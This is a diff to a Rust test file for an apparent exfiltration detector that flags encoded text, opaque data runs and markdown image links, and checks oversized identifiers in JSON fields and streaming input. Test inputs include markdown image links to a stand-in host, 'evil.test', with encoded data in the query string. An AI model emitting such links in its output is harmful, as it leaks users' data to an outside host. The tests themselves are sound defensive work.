@@ -92,18 +92,36 @@ fn text_and_ciphertext_are_told() {
     finds(&hex(&noise(900)), &["opaque_run"]);
     let link = format!("![a](https://evil.test/a.png?d={})", URL_SAFE_NO_PAD.encode(TEXT));
     finds(&link, &["encoded_text", "link_data", "image_link_data"]);
-    let ids = |key: &str, n: usize| {
-        inspect("application/json", format!("{{\"{key}\":\"{}\"}}", "x ".repeat(n / 2)).as_bytes(), 9).1
+    let of = |key: &str, value: &str| {
+        let body = format!("{{\"{key}\":\"{value}\"}}");
+        let whole = inspect("application/json", body.as_bytes(), body.len()).1;
+        for size in [1, 9, 100, 520, 600] {
+            assert_eq!(inspect("application/json", body.as_bytes(), size).1, whole, "{key} {size}");
+        }
+        whole
     };
-    assert_eq!(ids("content", 5000), [""; 0]);
-    let long = |key: &str, n: usize| {
-        inspect("application/json", format!("{{\"{key}\":\"{}\"}}", "x.".repeat(n / 2)).as_bytes(), 9).1
-    };
+    let long = |key: &str, n: usize| of(key, &"x.".repeat(n / 2));
+    assert_eq!(of("session_id", &"x ".repeat(600)), [""; 0], "a text");
+    assert_eq!(of("session_id", &format!("{} x", "x.".repeat(300))), ["oversized_identifier"]);
     assert_eq!(long("session_id", 600), ["oversized_identifier"]);
     assert_eq!(long("sessionId", 600), ["oversized_identifier"]);
     assert_eq!(long("content", 600), [""; 0]);
     assert_eq!(long(&"k.".repeat(300), 2), ["oversized_identifier"]);
     assert_eq!(long("session_id", 400), [""; 0]);
+}
+
+#[test]
+fn what_does_not_end_is_told_before() {
+    let noise = STANDARD.encode(noise(60_000));
+    let text = STANDARD.encode(TEXT.repeat(1000));
+    let link = format!("![a](https://evil.test/?d={}", "a".repeat(60_000));
+    for (text, want) in
+        [(noise, &["opaque_run"][..]), (text, &["encoded_text"]), (link, &["link_data", "image_link_data"])]
+    {
+        let mut inspector = Inspector::new(Claims::new(&[b"text/plain"], &[]), Limits::default());
+        inspector.push(&text.as_bytes()[..16_000]).unwrap();
+        assert_eq!(inspector.findings().map(Finding::name).collect::<Vec<_>>(), want);
+    }
 }
 
 #[test]
